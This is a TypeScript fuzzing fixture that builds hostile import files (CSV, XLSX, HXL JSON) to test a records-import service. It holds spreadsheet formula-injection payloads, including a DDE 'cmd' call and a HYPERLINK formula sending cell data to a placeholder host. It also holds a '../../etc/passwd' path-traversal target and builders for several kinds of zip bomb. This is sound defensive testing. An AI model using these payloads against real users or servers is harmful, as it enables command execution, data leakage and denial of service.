// Hostile files for fuzzing imports (issue 7), shared by the bounded test
// (src/services/import-fuzz.test.ts) and the bench (bench/import-fuzz.ts), which runs 10,000 and more.
//
// A file is a table (headers, an HXL row somewhere or nowhere, rows of good and hostile cells)
// written as CSV, XLSX or HXL JSON and then, often, damaged: cut short, bytes flipped, parts of the
// workbook missing or lying, re-encoded in the wrong character set. Beside those: zip bombs, empty
// files and binary junk. Every file says which category it comes from, so that a run can show it
// reached them all.

import zlib from 'node:zlib';
import { AppError } from '@tansiq/core';
import fc from 'fast-check';
import {
  buildXlsx,
  buildZip,
  sharedStrings,
  sheet,
  type ZipPart,
} from '../src/exchange/fixtures/hxl/build-xlsx.ts';
import type { Ctx } from '../src/services/context.ts';
import { importRecords } from '../src/services/import-records.ts';
import type { PgPool } from '../src/store/db.ts';

export const fuzzCategories = [
  'csv',
  'xlsx',
  'xlsx-truncated',
  'xlsx-damaged',
  'xlsx-malformed',
  'zip-bomb',
  'json',
  'empty',
  'junk',
] as const;
export type FuzzCategory = (typeof fuzzCategories)[number];

export type FuzzResource = 'items' | 'organizations';

export interface FuzzFile {
  category: FuzzCategory;
  /** What was done to it, in a few words: `utf-16le-no-bom`, `shared-string-out-of-range`… */
  variant: string;
  resource: FuzzResource;
  fileName: string;
  bytes: Uint8Array;
  /** A saved mapping sent with the file, sometimes naming fields that do not exist. */
  mapping?: Record<string, string>;
}

// ---------------------------------------------------------------------------------------------
// Tables

interface Vocabulary {
  headers: string[];
  hashtags: string[];
  /** A row the resource accepts, numbered so that files create distinct records. */
  good(n: number): string[];
}

const vocabularies: Record<FuzzResource, Vocabulary> = {
  items: {
    headers: ['Code', 'Item (English)', 'Category', 'Sector', 'Base unit', 'Unit kind'],
    hashtags: ['#item+code', '#item+name+i_en', '#item+type', '#sector', '#item+unit', '#item+unit+kind'],
    good: (n) => [
      `FZ-${n}`,
      `Fuzz item ${n}`,
      ['nfi', 'food', 'wash'][n % 3] as string,
      ['shelter', 'food_security', 'wash'][n % 3] as string,
      ['piece', 'kg', 'litre'][n % 3] as string,
      ['count', 'mass', 'volume'][n % 3] as string,
    ],
  },
  organizations: {
    headers: ['Organization (English)', 'Organization (Arabic)', 'Acronym', 'Type', 'Country'],
    hashtags: ['#org+name+i_en', '#org+name+i_ar', '#org+acronym', '#org+type', '#country+code'],
    good: (n) => [
      `Fuzz Organization ${n}`,
      `منظمة الاختبار ${n}`,
      `FZO${n}`,
      ['national_ngo', 'un_agency', 'international_ngo'][n % 3] as string,
      'SY',
    ],
  },
};

// Long cells are built once: files share them, and building megabytes per file would be the cost.
// The megabyte cells are noisy, as real text is: a cell of one repeated letter deflates a thousandfold,
// and the XLSX reader would refuse it as a zip bomb before ever reaching the cell.
const LONG_CELL = 'z'.repeat(120_000);
const MEGABYTE_CELL = noisyText(1_500_000, 'abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789');
const MEGABYTE_ARABIC_CELL = noisyText(600_000, 'ابتثجحخدذرزسشصضطظعغفقكلمنهوي ١٢٣');

/** `length` characters drawn from `alphabet` by a fixed linear congruential generator. */
function noisyText(length: number, alphabet: string): string {
  const letters = [...alphabet];
  const out: string[] = [];
  let state = 12345;
  for (let i = 0; i < length; i++) {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    out.push(letters[(state >>> 16) % letters.length] as string);
  }
  return out.join('');
}

/** Text a spreadsheet program would run, or a CSV reader might: kept as text, never evaluated. */
const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
  '=1+2',
  '+1+1',
  '+cmd',
  '-2+3',
  '-SUM(A1:A9)',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1',
  '=WEBSERVICE("http://example.invalid")',
];

const oddCell = fc.oneof(
  fc.constantFrom(
    ...formulas,
    '',
    ' ',
    'nfi',
    'food',
    'kg',
    'count',
    'national_ngo',
    'حلب',
    '١٢',
    '\u200f\u202eRTL',
    'NULL',
    'null',
    '#item+code',
    '#org+name',
    '"',
    'a,b;c\td',
    'line\nbreak',
    '\u0000nul',
    '\ud800lone surrogate',
    '1e308',
    '-0',
    'NaN',
    '0x1F',
  ),
  fc.string({ maxLength: 16 }),
  fc.string({ maxLength: 16, unit: 'binary' }),
);

const cell = fc.oneof(
  { arbitrary: oddCell, weight: 20 },
  { arbitrary: fc.constantFrom(LONG_CELL, MEGABYTE_CELL, MEGABYTE_ARABIC_CELL), weight: 1 },
);

type HxlPlace = 'none' | 'normal' | 'above-headers' | 'in-data' | 'last' | 'twice' | 'only';

interface Table {
  resource: FuzzResource;
  headers: string[];
  /** The HXL row, with the hashtags of the headers (or hostile ones). */
  hashtags: string[];
  hxl: HxlPlace;
  rows: string[][];
}

const place = fc.constantFrom<HxlPlace>(
  'none',
  'normal',
  'normal',
  'above-headers',
  'in-data',
  'last',
  'twice',
  'only',
);

/** Headers: the resource's, shuffled, some missing, some duplicated, some blank or foreign; or a great many. */
function headersOf(v: Vocabulary) {
  return fc.oneof(
    { arbitrary: fc.constant(v.headers), weight: 4 },
    {
      arbitrary: fc.array(
        fc.constantFrom(...v.headers, v.headers[0] as string, 'Other', '', ' Code ', 'ID'),
        {
          maxLength: 10,
        },
      ),
      weight: 4,
    },
    {
      // Beyond the reader's 2,000 columns, or many but within.
      arbitrary: fc
        .integer({ min: 50, max: 2_600 })
        .map((n) => [...v.headers, ...Array.from({ length: n }, (_, i) => `Extra ${i}`)]),
      weight: 1,
    },
  );
}

function tableOf(resource: FuzzResource): fc.Arbitrary<Table> {
  const v = vocabularies[resource];
  return fc
    .record({
      headers: headersOf(v),
      hxl: place,
      // Rows: the resource's good rows with some cells replaced, or rows of hostile cells.
      rows: fc.array(
        fc.oneof(
          fc
            .tuple(fc.nat(1_000_000), fc.array(fc.tuple(fc.nat(20), cell), { maxLength: 3 }))
            .map(([n, damage]) => {
              const row = v.good(n);
              for (const [at, value] of damage) row[at % (row.length + 2)] = value;
              return Array.from(row, (c) => c ?? '');
            }),
          fc.array(cell, { maxLength: 9 }),
        ),
        { maxLength: 8 },
      ),
      shuffledHashtags: fc.boolean(),
    })
    .map(({ headers, hxl, rows, shuffledHashtags }) => {
      const hashtags = headers.map((h, i) => {
        const known = v.headers.indexOf(h);
        if (known >= 0)
          return v.hashtags[shuffledHashtags ? (known + 1) % v.hashtags.length : known] as string;
        return i % 7 === 3 ? '#bogus+tag' : '';
      });
      return { resource, headers, hashtags, hxl, rows };
    });
}

/** The table's lines in order, the HXL row where the table puts it. */
function linesOf(t: Table): string[][] {
  const data = [...t.rows];
  switch (t.hxl) {
    case 'none':
      return [t.headers, ...data];
    case 'normal':
      return [t.headers, t.hashtags, ...data];
    case 'above-headers':
      return [t.hashtags, t.headers, ...data];
    case 'in-data':
      data.splice(Math.floor(data.length / 2), 0, t.hashtags);
      return [t.headers, ...data];
    case 'last':
      return [t.headers, ...data, t.hashtags];
    case 'twice':
      return [t.headers, t.hashtags, t.hashtags, ...data];
    case 'only':
      return [t.hashtags, ...data];
  }
}

const tableArb = fc.oneof(
  { arbitrary: tableOf('items'), weight: 3 },
  { arbitrary: tableOf('organizations'), weight: 1 },
);

// ---------------------------------------------------------------------------------------------
// CSV and wrong encodings

const encodings = [
  'utf-8',
  'utf-8-bom',
  'utf-16le',
  'utf-16le-no-bom',
  'utf-16be',
  'utf-16be-no-bom',
  'latin1',
  'invalid-utf-8',
  'mixed-utf-8-latin1',
  'mixed-utf-8-utf-16',
] as const;
type Encoding = (typeof encodings)[number];

// Invalid UTF-8: a bad continuation, stray bytes, an overlong slash, a surrogate, a cut 4-byte sequence.
const INVALID_UTF8 = [0xc3, 0x28, 0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x80, 0xf0, 0x9f, 0x98];

function utf16(text: string, bigEndian: boolean): Buffer {
  const le = Buffer.from(text, 'utf16le');
  return bigEndian ? le.swap16() : le;
}

export function encodeText(text: string, encoding: Encoding): Uint8Array {
  const half = Math.floor(text.length / 2);
  switch (encoding) {
    case 'utf-8':
      return new Uint8Array(Buffer.from(text));
    case 'utf-8-bom':
      return new Uint8Array(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]));
    case 'utf-16le':
      return new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(text, false)]));
    case 'utf-16le-no-bom':
      return new Uint8Array(utf16(text, false));
    case 'utf-16be':
      return new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), utf16(text, true)]));
    case 'utf-16be-no-bom':
      return new Uint8Array(utf16(text, true));
    case 'latin1':
      return new Uint8Array(Buffer.from(text, 'latin1'));
    case 'invalid-utf-8': {
      const bytes = Buffer.from(text);
      const at = Math.floor(bytes.length / 3);
      return new Uint8Array(
        Buffer.concat([bytes.subarray(0, at), Buffer.from(INVALID_UTF8), bytes.subarray(at)]),
      );
    }
    case 'mixed-utf-8-latin1':
      return new Uint8Array(
        Buffer.concat([Buffer.from(text.slice(0, half)), Buffer.from(text.slice(half), 'latin1')]),
      );
    case 'mixed-utf-8-utf-16':
      return new Uint8Array(
        Buffer.concat([Buffer.from(text.slice(0, half)), utf16(text.slice(half), false)]),
      );
  }
}

function csvText(lines: string[][], delimiter: string, newline: string, quoteAll: boolean): string {
  const quote = (c: string) =>
    quoteAll || c.includes(delimiter) || /["\n\r]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c;
  return lines.map((line) => line.map(quote).join(delimiter)).join(newline) + newline;
}

const csvFile: fc.Arbitrary<FuzzFile> = fc
  .record({
    table: tableArb,
    delimiter: fc.constantFrom(',', ';', '\t', '|'),
    newline: fc.constantFrom('\n', '\r\n', '\r'),
    quoteAll: fc.boolean(),
    encoding: fc.constantFrom(...encodings),
    // A quote left open swallows the rest of the file.
    unbalanced: fc.nat(9).map((n) => n === 0),
    fileName: fc.constantFrom('fuzz.csv', 'fuzz.tsv', 'fuzz.txt', 'fuzz'),
  })
  .map(({ table, delimiter, newline, quoteAll, encoding, unbalanced, fileName }) => {
    let text = csvText(linesOf(table), delimiter, newline, quoteAll);
    if (unbalanced) text = `"${text}`;
    return {
      category: 'csv' as const,
      variant: `${encoding}, hxl ${table.hxl}${unbalanced ? ', open quote' : ''}`,
      resource: table.resource,
      fileName,
      bytes: encodeText(text, encoding),
    };
  });

// ---------------------------------------------------------------------------------------------
// XLSX

const escapeXml = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

type CellStyle = 'shared' | 'inline' | 'formula';

function columnName(index: number): string {
  let n = index + 1;
  let name = '';
  while (n > 0) {
    name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
    n = Math.floor((n - 1) / 26);
  }
  return name;
}

/** The sheet XML and shared strings of a table; formula cells carry the text as their cached result. */
function sheetOf(
  lines: string[][],
  style: CellStyle,
  references: boolean,
): { xml: string; strings: string[] } {
  const strings: string[] = [];
  const rows = lines.map((line, r) => {
    const cells = line.map((text, c) => {
      const ref = references ? ` r="${columnName(c)}${r + 1}"` : '';
      if (text === '') return '';
      if (style === 'shared') {
        strings.push(escapeXml(text));
        return `<c${ref} t="s"><v>${strings.length - 1}</v></c>`;
      }
      if (style === 'formula' && /^[=+\-@]/.test(text))
        return `<c${ref} t="str"><f>${escapeXml(text.slice(1))}</f><v>${escapeXml(text)}</v></c>`;
      return `<c${ref} t="inlineStr"><is><t xml:space="preserve">${escapeXml(text)}</t></is></c>`;
    });
    return `<row${references ? ` r="${r + 1}"` : ''}>${cells.join('')}</row>`;
  });
  return { xml: sheet(rows.join('')), strings };
}

interface Workbook {
  table: Table;
  style: CellStyle;
  references: boolean;
}

const workbookArb: fc.Arbitrary<Workbook> = fc.record({
  table: tableArb,
  style: fc.constantFrom<CellStyle>('shared', 'inline', 'formula'),
  references: fc.boolean(),
});

function xlsxOf(w: Workbook, extra: ZipPart[] = []): Uint8Array {
  const { xml, strings } = sheetOf(linesOf(w.table), w.style, w.references);
  return buildXlsx({
    sheets: { data: xml },
    ...(strings.length > 0 ? { sharedStrings: sharedStrings(strings) } : {}),
    extra,
  });
}

const xlsxFile: fc.Arbitrary<FuzzFile> = workbookArb.map((w) => ({
  category: 'xlsx' as const,
  variant: `${w.style}, hxl ${w.table.hxl}`,
  resource: w.table.resource,
  fileName: 'fuzz.xlsx',
  bytes: xlsxOf(w),
}));

// A position in a file, uniform: fast-check's bias towards edges would cut most files at byte 0.
const fraction = fc.noBias(fc.integer({ min: 0, max: 99_999 })).map((n) => n / 100_000);

const truncatedXlsx: fc.Arbitrary<FuzzFile> = fc.tuple(workbookArb, fraction).map(([w, at]) => {
  const bytes = xlsxOf(w);
  return {
    category: 'xlsx-truncated' as const,
    variant: `cut at ${Math.round(at * 100)}%`,
    resource: w.table.resource,
    fileName: 'fuzz.xlsx',
    bytes: bytes.slice(0, Math.floor(at * bytes.length)),
  };
});

/** Offsets of each central-directory entry of a zip built by `buildZip` (no comments, no extras). */
function centralEntries(zip: Uint8Array): number[] {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const eocd = zip.length - 22;
  const count = view.getUint16(eocd + 10, true);
  const out: number[] = [];
  let at = view.getUint32(eocd + 16, true);
  for (let k = 0; k < count; k++) {
    out.push(at);
    at += 46 + view.getUint16(at + 28, true);
  }
  return out;
}

/** Where an entry's compressed bytes lie in a zip built by `buildZip`. */
function entryData(zip: Uint8Array, name: string): { start: number; end: number } {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  for (const at of centralEntries(zip)) {
    const nameLength = view.getUint16(at + 28, true);
    if (new TextDecoder().decode(zip.subarray(at + 46, at + 46 + nameLength)) !== name) continue;
    const local = view.getUint32(at + 42, true);
    const start = local + 30 + view.getUint16(local + 26, true);
    return { start, end: start + view.getUint32(at + 20, true) };
  }
  throw new Error(`no entry ${name}`);
}

const SHEET = 'xl/worksheets/sheet1.xml';

/** Damage to the bytes of a valid workbook: flips, overwrites, or compressed data of the sheet garbled. */
const damagedXlsx: fc.Arbitrary<FuzzFile> = fc
  .tuple(
    workbookArb,
    fc.oneof(
      fc.record({
        kind: fc.constant('flip' as const),
        at: fc.array(fraction, { minLength: 1, maxLength: 8 }),
        value: fc.integer({ min: 1, max: 255 }),
      }),
      fc.record({
        kind: fc.constant('overwrite' as const),
        at: fraction,
        bytes: fc.uint8Array({ minLength: 1, maxLength: 64 }),
      }),
      fc.record({
        kind: fc.constant('sheet-data' as const),
        at: fraction,
        bytes: fc.uint8Array({ minLength: 1, maxLength: 16 }),
      }),
    ),
  )
  .map(([w, damage]) => {
    const bytes = xlsxOf(w);
    const pos = (x: number, from = 0, to = bytes.length) => from + Math.floor(x * (to - from));
    if (damage.kind === 'flip') {
      for (const at of damage.at) bytes[pos(at)] = (bytes[pos(at)] ?? 0) ^ damage.value;
    } else if (damage.kind === 'overwrite') {
      const at = pos(damage.at);
      bytes.set(damage.bytes.subarray(0, bytes.length - at), at);
    } else {
      // The headers and the CRC stay as they were: only inflating the sheet can find the damage.
      const { start, end } = entryData(bytes, SHEET);
      const at = pos(damage.at, start, end);
      bytes.set(damage.bytes.subarray(0, end - at), at);
    }
    return {
      category: 'xlsx-damaged' as const,
      variant: damage.kind,
      resource: w.table.resource,
      fileName: 'fuzz.xlsx',
      bytes,
    };
  });

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE_RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';

const xmlToken = fc.constantFrom(
  '<row r="1">',
  '<row r="3">',
  '<row r="2">',
  '<row>',
  '</row>',
  '<c r="A1" t="s">',
  '<c r="B1" t="inlineStr">',
  '<c t="str">',
  '<c t="b">',
  '<c t="d">',
  '<c t="e">',
  '<c r="XFD1">',
  '<c r="C2" s="9">',
  '</c>',
  '<v>',
  '</v>',
  '<f>',
  '</f>',
  'SUM(A1:A9)',
  '<is><t>',
  '</t></is>',
  '0',
  '-1',
  '1e308',
  'FZ-1',
  '#item+code',
  'حلب',
  '&amp;',
  '&#0;',
  '&#x110000;',
  '&bogus;',
  '<![CDATA[=cmd]]>',
  '<!-- c -->',
  '<?pi?>',
  '<!DOCTYPE x [<!ENTITY a "aaaa">]>',
  '<',
  '>',
  '"',
  '</sheetData>',
  '<sheetData>',
);

/** Workbooks whose parts are wrong: XML, relationships, shared strings, references, zip headers. */
const malformedXlsx: fc.Arbitrary<FuzzFile> = fc
  .tuple(
    workbookArb,
    fc.constantFrom(
      'random-sheet-xml',
      'unclosed-sheet-xml',
      'latin1-sheet-xml',
      'utf-16-sheet-xml',
      'binary-sheet',
      'missing-sheet-part',
      'no-sheets',
      'no-workbook',
      'root-rels-elsewhere',
      'shared-string-out-of-range',
      'shared-string-not-a-number',
      'bad-row-number',
      'rows-out-of-order',
      'bad-cell-reference',
      'column-beyond-limit',
      'crc-mismatch',
      'size-lies-small',
      'duplicate-entry',
      'encrypted-flag',
      'unknown-compression',
      'wrong-xml-root',
    ),
    fc.array(xmlToken, { maxLength: 60 }),
  )
  .map(([w, variant, tokens]) => {
    const rows = () => sheetOf(linesOf(w.table), 'inline', true).xml;
    let bytes: Uint8Array;
    switch (variant) {
      case 'random-sheet-xml':
        bytes = xlsxOf(w, [{ name: SHEET, data: sheet(tokens.join('')) }]);
        break;
      case 'unclosed-sheet-xml': {
        const xml = rows();
        bytes = xlsxOf(w, [{ name: SHEET, data: xml.slice(0, Math.floor(xml.length * 0.7)) }]);
        break;
      }
      case 'latin1-sheet-xml':
        bytes = xlsxOf(w, [{ name: SHEET, data: new Uint8Array(Buffer.from(`${rows()}é`, 'latin1')) }]);
        break;
      case 'utf-16-sheet-xml':
        bytes = xlsxOf(w, [{ name: SHEET, data: encodeText(rows(), 'utf-16le') }]);
        break;
      case 'binary-sheet':
        bytes = xlsxOf(w, [{ name: SHEET, data: new Uint8Array(zlib.deflateSync(Buffer.from(rows()))) }]);
        break;
      case 'missing-sheet-part':
        bytes = buildZip([
          { name: '_rels/.rels', data: rootRels('xl/workbook.xml') },
          { name: 'xl/workbook.xml', data: workbookXml('<sheet name="data" sheetId="1" r:id="rId1"/>') },
          {
            name: 'xl/_rels/workbook.xml.rels',
            data: `<Relationships xmlns="${PACKAGE_RELS}"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/nowhere.xml"/></Relationships>`,
          },
          { name: SHEET, data: rows() },
        ]);
        break;
      case 'no-sheets':
        bytes = xlsxOf(w, [{ name: 'xl/workbook.xml', data: workbookXml('') }]);
        break;
      case 'no-workbook':
        bytes = buildZip([
          { name: '_rels/.rels', data: rootRels('xl/workbook.xml') },
          { name: SHEET, data: rows() },
        ]);
        break;
      case 'root-rels-elsewhere':
        bytes = xlsxOf(w, [{ name: '_rels/.rels', data: rootRels('../../etc/passwd') }]);
        break;
      case 'shared-string-out-of-range':
        bytes = buildXlsx({
          sheets: {
            data: sheet(
              `<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>${tokens.length + 7}</v></c></row>`,
            ),
          },
          sharedStrings: sharedStrings(['Code']),
        });
        break;
      case 'shared-string-not-a-number':
        bytes = buildXlsx({
          sheets: {
            data: sheet('<row r="1"><c r="A1" t="s"><v>-1</v></c><c r="B1" t="s"><v>x</v></c></row>'),
          },
          sharedStrings: sharedStrings(['Code', 'Item (English)']),
        });
        break;
      case 'bad-row-number':
        bytes = xlsxOf(w, [
          { name: SHEET, data: sheet('<row r="0"><c t="inlineStr"><is><t>Code</t></is></c></row>') },
        ]);
        break;
      case 'rows-out-of-order':
        bytes = xlsxOf(w, [
          {
            name: SHEET,
            data: sheet(
              '<row r="5"><c t="inlineStr"><is><t>Code</t></is></c></row><row r="2"><c t="inlineStr"><is><t>FZ-1</t></is></c></row>',
            ),
          },
        ]);
        break;
      case 'bad-cell-reference':
        bytes = xlsxOf(w, [
          {
            name: SHEET,
            data: sheet(
              '<row r="1"><c r="A0" t="inlineStr"><is><t>Code</t></is></c><c r="1A"><v>1</v></c></row>',
            ),
          },
        ]);
        break;
      case 'column-beyond-limit':
        bytes = xlsxOf(w, [
          {
            name: SHEET,
            data: sheet(
              '<row r="1"><c r="A1" t="inlineStr"><is><t>Code</t></is></c><c r="ZZZ1"><v>1</v></c></row>',
            ),
          },
        ]);
        break;
      case 'crc-mismatch':
        bytes = xlsxOf(w, [{ name: SHEET, data: rows(), crc: 0x12345678 }]);
        break;
      case 'size-lies-small': {
        const xml = rows();
        bytes = xlsxOf(w, [{ name: SHEET, data: xml, declaredSize: Math.max(1, xml.length >> 1) }]);
        break;
      }
      case 'duplicate-entry': {
        const xml = rows();
        bytes = buildZip([...xlsxParts(xml), { name: SHEET, data: xml }]);
        break;
      }
      case 'encrypted-flag':
        bytes = setCentral(xlsxOf(w), 0, 8, 0x1, 2);
        break;
      case 'unknown-compression':
        bytes = setCentral(xlsxOf(w), 0, 10, 12, 2);
        break;
      case 'wrong-xml-root':
        bytes = xlsxOf(w, [{ name: SHEET, data: `<html><body>${tokens.join('')}</body></html>` }]);
        break;
    }
    return {
      category: 'xlsx-malformed' as const,
      variant,
      resource: w.table.resource,
      fileName: 'fuzz.xlsx',
      bytes,
    };
  });

function rootRels(target: string): string {
  return `<Relationships xmlns="${PACKAGE_RELS}"><Relationship Id="r1" Type="${REL}/officeDocument" Target="${target}"/></Relationships>`;
}

function workbookXml(sheets: string): string {
  return `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets>${sheets}</sheets></workbook>`;
}

/** The parts of a one-sheet workbook, for archives `buildXlsx` will not make. */
function xlsxParts(sheetXml: string | Uint8Array): ZipPart[] {
  return [
    { name: '_rels/.rels', data: rootRels('xl/workbook.xml') },
    { name: 'xl/workbook.xml', data: workbookXml('<sheet name="data" sheetId="1" r:id="rId1"/>') },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: `<Relationships xmlns="${PACKAGE_RELS}"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    },
    { name: SHEET, data: sheetXml },
  ];
}

/** Writes a field of the `index`th central-directory entry. */
function setCentral(zip: Uint8Array, index: number, field: number, value: number, size: 2 | 4): Uint8Array {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const at = (centralEntries(zip)[index] ?? 0) + field;
  if (size === 2) view.setUint16(at, value, true);
  else view.setUint32(at, value, true);
  return zip;
}

// ---------------------------------------------------------------------------------------------
// Zip bombs

const MiB = 1024 * 1024;
const bombCache = new Map<string, Uint8Array>();

/** Builds once per key: a bomb's deflating is the expensive part, and files only differ in the key. */
function cached(key: string, build: () => Uint8Array): Uint8Array {
  let bytes = bombCache.get(key);
  if (!bytes) {
    bytes = build();
    bombCache.set(key, bytes);
  }
  // A copy: callers may damage it.
  return bytes.slice();
}

/** A sheet whose one cell is `mib` MiB of zeros: deflates about a thousandfold. */
function zeroSheet(mib: number): string {
  return sheet(`<row r="1"><c r="A1"><v>${'0'.repeat(mib * MiB)}</v></c></row>`);
}

const bombVariants = [
  'ratio-honest-size',
  'ratio-size-lies-small',
  'ratio-size-lies-huge',
  'shared-strings-bomb',
  'many-entries',
  'entries-under-limit',
  'nested-zip',
  'nested-in-sheet',
  'overlapping-entries',
  'rows-bomb',
] as const;

const zipBomb: fc.Arbitrary<FuzzFile> = fc
  .tuple(
    fc.constantFrom(...bombVariants),
    fc.constantFrom(2, 4, 8),
    fc.constantFrom<FuzzResource>('items', 'organizations'),
  )
  .map(([variant, mib, resource]) => {
    let bytes: Uint8Array;
    switch (variant) {
      case 'ratio-honest-size':
        bytes = cached(`zero-${mib}`, () => buildXlsx({ sheets: { data: zeroSheet(mib) } }));
        break;
      case 'ratio-size-lies-small': {
        // The directory claims 1 MiB, inside the ratio bound: inflating must stop at the claimed size.
        bytes = cached(`small-${mib}`, () =>
          buildXlsx({
            sheets: { data: '' },
            extra: [{ name: SHEET, data: zeroSheet(mib), declaredSize: MiB }],
          }),
        );
        break;
      }
      case 'ratio-size-lies-huge':
        bytes = cached('huge', () =>
          buildXlsx({
            sheets: { data: '' },
            extra: [{ name: SHEET, data: zeroSheet(2), declaredSize: 0xfffffff0 }],
          }),
        );
        break;
      case 'shared-strings-bomb':
        bytes = cached(`sst-${mib}`, () =>
          buildXlsx({
            sheets: { data: sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>') },
            sharedStrings: sharedStrings(['Code', 'a'.repeat(mib * MiB)]),
          }),
        );
        break;
      case 'many-entries':
        // More entries than the reader accepts.
        bytes = cached('many', () =>
          buildZip([
            ...xlsxParts(sheet('')),
            ...Array.from({ length: 10_001 }, (_, i) => ({ name: `junk/${i}`, data: '', store: true })),
          ]),
        );
        break;
      case 'entries-under-limit':
        bytes = cached('under', () =>
          buildZip([
            ...xlsxParts(sheet('<row r="1"><c t="inlineStr"><is><t>Code</t></is></c></row>')),
            ...Array.from({ length: 5_000 }, (_, i) => ({ name: `junk/${i}`, data: `${i}`, store: true })),
          ]),
        );
        break;
      case 'nested-zip':
        bytes = cached(`nested-${mib}`, () =>
          buildZip([{ name: 'inner.xlsx', data: buildXlsx({ sheets: { data: zeroSheet(mib) } }) }]),
        );
        break;
      case 'nested-in-sheet':
        // The sheet part is itself a zip bomb, stored.
        bytes = cached(`in-sheet-${mib}`, () =>
          buildZip(
            xlsxParts(buildXlsx({ sheets: { data: zeroSheet(mib) } })).map((p) => ({ ...p, store: true })),
          ),
        );
        break;
      case 'overlapping-entries':
        bytes = cached('overlap', () => overlapping());
        break;
      case 'rows-bomb': {
        // Many small rows, well compressed: a real sheet, not one cell, that grows by the megabyte.
        bytes = cached(`rows-${mib}`, () => {
          const row = '<row><c t="inlineStr"><is><t>FZ</t></is></c><c><v>1</v></c></row>';
          return buildXlsx({ sheets: { data: sheet(row.repeat(Math.floor((mib * MiB) / row.length))) } });
        });
        break;
      }
    }
    return {
      category: 'zip-bomb' as const,
      variant: `${variant} ${mib} MiB`,
      resource,
      fileName: 'bomb.xlsx',
      bytes,
    };
  });

/** Builds every cached bomb now, so that a run's memory figures are the imports', not the generator's. */
export function prepareFuzzFiles(): void {
  for (const _ of fc.sample(zipBomb, { numRuns: 300, seed: 0 })) {
    // sampling fills the cache
  }
}

/**
 * Two directory entries whose data is the same bytes: the overlapping trick of non-recursive zip
 * bombs. The second sheet's name has the first's length, so that only the overlap is wrong.
 */
function overlapping(): Uint8Array {
  const zip = buildZip([
    ...xlsxParts(zeroSheet(2)),
    { name: 'xl/worksheets/sheet2.xml', data: zeroSheet(2) },
  ]);
  const entries = centralEntries(zip);
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const first = entries[3] ?? 0;
  const second = entries[4] ?? 0;
  view.setUint32(second + 42, view.getUint32(first + 42, true), true);
  return zip;
}

// ---------------------------------------------------------------------------------------------
// HXL JSON, empty files, junk

const jsonFile: fc.Arbitrary<FuzzFile> = fc
  .tuple(tableArb, fc.constantFrom('arrays', 'objects', 'cut', 'deep', 'not-a-table', 'numbers'), fraction)
  .map(([table, variant, at]) => {
    const lines = linesOf({ ...table, hxl: table.hxl === 'none' ? 'normal' : table.hxl });
    let text: string;
    switch (variant) {
      case 'arrays':
        text = JSON.stringify(lines);
        break;
      case 'objects':
        text = JSON.stringify(
          table.rows.map((row) => Object.fromEntries(table.hashtags.map((h, i) => [h, row[i]]))),
        );
        break;
      case 'cut': {
        const whole = JSON.stringify(lines);
        text = whole.slice(0, Math.floor(at * whole.length));
        break;
      }
      case 'deep':
        text = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
        break;
      case 'not-a-table':
        text = JSON.stringify({ rows: lines, n: 1e308, nested: { a: [null, true, {}] } });
        break;
      case 'numbers':
        text = JSON.stringify([
          table.hashtags,
          ...table.rows.map((row) => row.map((_, i) => (i % 2 ? 1e308 : -0))),
        ]);
        break;
    }
    return {
      category: 'json' as const,
      variant,
      resource: table.resource,
      fileName: 'fuzz.json',
      bytes: encodeText(text, 'utf-8'),
    };
  });

const emptyFile: fc.Arbitrary<FuzzFile> = fc
  .tuple(
    fc.constantFrom<[string, Uint8Array]>(
      ['zero bytes', new Uint8Array(0)],
      ['utf-8 BOM only', new Uint8Array([0xef, 0xbb, 0xbf])],
      ['utf-16 BOM only', new Uint8Array([0xff, 0xfe])],
      ['newlines', encodeText('\n\n\r\n', 'utf-8')],
      ['spaces', encodeText('   \t ', 'utf-8')],
      ['delimiters', encodeText(',,,,\n;;;\n', 'utf-8')],
      ['header only', encodeText(`${vocabularies.items.headers.join(',')}\n`, 'utf-8')],
      ['hashtags only', encodeText(`${vocabularies.items.hashtags.join(',')}\n`, 'utf-8')],
      ['empty json', encodeText('[]', 'utf-8')],
      ['empty workbook', buildXlsx({ sheets: { data: sheet('') } })],
      ['empty zip', buildZip([])],
    ),
    fc.constantFrom('empty.csv', 'empty.xlsx', 'empty.json', 'empty'),
    fc.constantFrom<FuzzResource>('items', 'organizations'),
  )
  .map(([[variant, bytes], fileName, resource]) => ({
    category: 'empty' as const,
    variant,
    resource,
    fileName,
    bytes: bytes.slice(),
  }));

const magic: [string, number[]][] = [
  ['none', []],
  ['zip', [0x50, 0x4b, 0x03, 0x04]],
  ['empty zip', [0x50, 0x4b, 0x05, 0x06]],
  ['xls', [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]],
  ['pdf', [0x25, 0x50, 0x44, 0x46]],
  ['gzip', [0x1f, 0x8b]],
  ['png', [0x89, 0x50, 0x4e, 0x47]],
  ['html', [...Buffer.from('<!DOCTYPE html><html>')]],
  ['utf-16le BOM', [0xff, 0xfe]],
];

